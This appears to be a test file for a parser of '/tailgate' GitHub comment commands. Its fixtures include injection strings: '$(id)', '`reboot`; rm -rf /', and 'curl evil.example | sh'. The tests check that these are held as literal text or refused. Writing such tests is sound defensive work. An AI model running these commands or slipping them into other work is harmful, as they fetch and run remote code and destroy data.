import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { askedOptions } from "../../../src/github/event/asked-options.js";

describe("what a comment asks for", () => {
  test.each([
    ["/tailgate", {}],
    ["/tailgate\r\nthanks!", {}],
    ["/tailgate budget=10m", { budget: "10m" }],
    ['/tailgate  scenario="list users"  budget=3m ', { scenario: "list users", budget: "3m" }],
    ["/tailgate scenario=$(id)", { scenario: "$(id)" }],
    ['/tailgate scenario="`reboot`; rm -rf /"', { scenario: "`reboot`; rm -rf /" }],
    ["please measure this", {}],
    ["/tailgates budget=1m", {}],
    ["text\n/tailgate budget=1m", {}],
  ])("%j is %j, and nothing else", (body, options) => {
    expect(askedOptions(body)).toEqual(options);
  });

  test.each([
    ["/tailgate start=sh", "`start`; known are budget, scenario"],
    ["/tailgate budgt=1m", "did you mean `budget`?"],
    ["/tailgate now", '"now"'],
    ["/tailgate budget=1m; curl evil.example | sh", '"curl evil.example | sh"'],
    [`/tailgate scenario="${"x".repeat(600)}"`, "a line of"],
  ])("%j is refused with what may be written", (body, said) => {
    expect(() => askedOptions(body)).toThrow(said);
  });

  test("whatever is written gives a budget, a scenario, or an error", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 80 }), (text) => {
        try {
          expect(["budget", "scenario"]).toEqual(
            expect.arrayContaining(Object.keys(askedOptions(`/tailgate ${text}`))),
          );
        } catch (error) {
          expect(error).toMatchObject({ code: "github" });
        }
      }),
    );
  });
});
